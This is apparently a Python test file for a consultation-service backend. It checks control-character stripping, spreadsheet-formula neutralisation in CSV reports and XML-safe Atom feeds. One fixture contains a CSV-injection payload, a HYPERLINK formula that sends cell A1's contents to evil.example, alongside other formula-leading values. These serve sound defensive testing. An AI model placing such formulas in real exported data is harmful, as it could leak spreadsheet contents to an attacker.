"""Text from outside: no control characters in, no formulas out to spreadsheets, valid XML in feeds."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest

from services.intake.schemas import MailboxMessageCreate
from services.publishing.adoption import report_csv
from services.publishing.feeds import FeedEntry, atom_feed
from services.publishing.schemas import AdoptionReport, AdoptionRow
from shared.text import clean_strings, clean_text, spreadsheet_safe, xml_safe


def test_control_characters_are_removed_and_line_breaks_kept() -> None:
    assert clean_text("第一行\r\n第二\x0b行\x00\t制表\r末行\x7f\x85") == "第一行\n第二行\t制表\n末行"
    assert clean_strings({"a": ["x\x1by", {"b": "\x0c"}], "n": 3}) == {"a": ["xy", {"b": ""}], "n": 3}


def test_a_request_body_reaches_the_model_without_them() -> None:
    letter = MailboxMessageCreate.model_validate(
        {
            "mailbox": "director",
            "category": "咨询",
            "subject": "车位\x0b收费",
            "body": "请问\x00人防车位收费？",
            "contact": {"name": "张\x08三"},
        }
    )
    assert (letter.subject, letter.body, letter.contact.name) == ("车位收费", "请问人防车位收费？", "张三")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
    assert spreadsheet_safe(f'{start}HYPERLINK("http://x")') == f'\'{start}HYPERLINK("http://x")'
    assert spreadsheet_safe("建议明确收费") == "建议明确收费"
    assert spreadsheet_safe(-3) == -3, "numbers stay numbers"


def test_the_adoption_reports_csv_neutralises_formulas() -> None:
    report = AdoptionReport(
        consultation_id="c",
        title="t",
        received=1,
        adopted=0,
        partially_adopted=0,
        not_adopted=1,
        summary="s",
        comments=[
            AdoptionRow(
                seq=1,
                commenter="张*",
                clause=None,
                content='=HYPERLINK("http://evil.example/?"&A1,"点击")',
                decision="not_adopted",
                reason="@SUM(1)",
            )
        ],
    )
    (_, row) = list(csv.reader(io.StringIO(report_csv(report).lstrip("\ufeff"))))
    assert row[3].startswith("'=HYPERLINK")
    assert row[5] == "'@SUM(1)"


def test_a_feed_is_valid_xml_whatever_the_text() -> None:
    text = "答复\x0b含有\x00控制字符\ufffe"
    body = atom_feed(
        title="已公开的答复\x01",
        feed_id="urn:x",
        self_url="http://x/feed",
        updated=datetime(2026, 12, 1, tzinfo=UTC),
        entries=[FeedEntry("urn:uuid:1", text, datetime(2026, 12, 1, tzinfo=UTC), "http://x/1", text)],
    )
    root = ET.fromstring(body.encode())  # noqa: S314  (our own output)
    summary = root.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary")
    assert summary is not None
    assert summary.text == "答复含有控制字符"
    assert xml_safe("a\x0bb") == "ab"


def test_a_text_over_its_limit_is_told_as_such_whatever_pydantic_calls_it() -> None:
    """A limit on a `Visible` text fails as ``too_long`` (the limit sits on the wrapper), on a plain text
    as ``string_too_long``: the pages say 不能超过 N 个字 for both, and not for a list over its limit."""
    from pydantic import BaseModel, Field, ValidationError

    from shared.text import NonBlank, text_too_long

    class Form(BaseModel):
        name: NonBlank = Field(max_length=3)
        plain: str = Field(default="", max_length=2)
        items: list[str] = Field(default_factory=list, max_length=1)

    try:
        Form(name="张三丰丰", plain="abc", items=["a", "b"])
    except ValidationError as exc:
        limits = {str(error["loc"][0]): text_too_long(error) for error in exc.errors()}
    assert limits == {"name": 3, "plain": 2, "items": None}
